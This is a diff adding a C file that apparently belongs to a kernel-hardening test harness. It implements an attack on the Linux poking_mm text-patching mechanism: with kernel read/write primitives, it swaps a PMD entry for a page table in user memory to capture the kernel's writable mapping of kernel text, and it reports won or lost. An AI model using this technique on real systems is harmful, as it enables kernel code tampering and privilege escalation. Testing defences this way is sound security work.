@@ -1,0 +1,64 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * poking_mm, in which the kernel maps its own text writable while it patches
+ * it: its page table is replaced by one in the attacker's memory.
+ */
+#include <stddef.h>
+#include <sched.h>
+#include <unistd.h>
+
+#include "attack.h"
+#include "list.h"
+
+#define POLL_ROUNDS	400000	/* between two questions to the helper */
+
+static int walk_poking_mm(uint64_t addr, int level, struct slot *slot)
+{
+	int err = corrupt_command("walk addr=0x%lx level=%d name=poking_mm", addr, level);
+
+	slot->slot = corrupt_answer("slot");
+	slot->value = corrupt_answer("value");
+	slot->level = corrupt_answer("level");
+	return err;
+}
+
+/* The kernel's entry is there for microseconds only. */
+static uint64_t wait_for_entry(volatile uint64_t *entry)
+{
+	uint64_t seen;
+	int i;
+
+	while (helper_is_busy())
+		for (i = 0; i < POLL_ROUNDS; i++) {
+			seen = *entry;
+			if (seen)
+				return seen;
+		}
+	return 0;
+}
+
+enum outcome poking_mm(void)
+{
+	uint64_t addr = kread64(ksymbol("poking_addr"));
+	uint64_t phys, seen, *table;
+	struct slot slot;
+	int err;
+
+	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
+		return skipped("needs a second CPU to watch from");
+	if (walk_poking_mm(addr, LEVEL_PMD, &slot) || slot.level != LEVEL_PMD || !slot.value)
+		return broken("no page table found in poking_mm");
+	phys = user_page((void **)&table);
+
+	err = kwrite64(slot.slot, phys | PTE_TABLE);
+	if (err)
+		return lost("the page table was not replaced: %d", err);
+	helper_patch_text();
+	seen = wait_for_entry(table + addr / PAGE_SIZE % 512);
+	helper_wait();
+	kwrite64(slot.slot, slot.value);
+	if (!seen)
+		return lost("no entry showed up in the attacker's page table");
+	return won("the kernel put its writable mapping of kernel text (PTE 0x%lx) into uid %d's page table",
+		   seen, getuid());
+}
